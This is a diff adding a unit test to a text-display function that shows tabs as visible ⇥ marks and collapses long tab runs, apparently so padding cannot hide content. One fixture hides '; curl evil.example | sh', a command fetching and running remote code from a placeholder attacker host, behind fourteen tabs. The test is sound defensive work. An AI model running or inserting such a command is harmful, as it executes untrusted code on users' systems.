@@ -48,6 +48,16 @@ describe('cardRows', () => {
     ]);
   });
 
+  it('shows a tab as a marked ⇥ counted as two columns, and folds a long run of them like spaces', () => {
+    expect(rows('a\tb\t\tc', 40)).toStrictEqual([['a⇥b⇥⇥c', false]]);
+    expect(rows(`ls${'\t'.repeat(14)}; curl evil.example | sh`, 40)).toStrictEqual([['ls⇥×14; curl evil.example | sh', false]]);
+    expect(rows('\t'.repeat(7) + 'x'.repeat(10), 16)).toStrictEqual([
+      ['⇥'.repeat(7) + 'xx', false],
+      ['x'.repeat(8), true],
+    ]);
+    expect(cardRows(toVisibleText('a\tb'), 40, { ...plainStyle, escape: (text) => `[${text}]` })[0]!.text).toBe('a[⇥]b');
+  });
+
   it('never splits an escape', () => {
     expect(rows('abcdefghijkl\u202Emnop', 16)).toStrictEqual([
       ['abcdefghijkl', false],
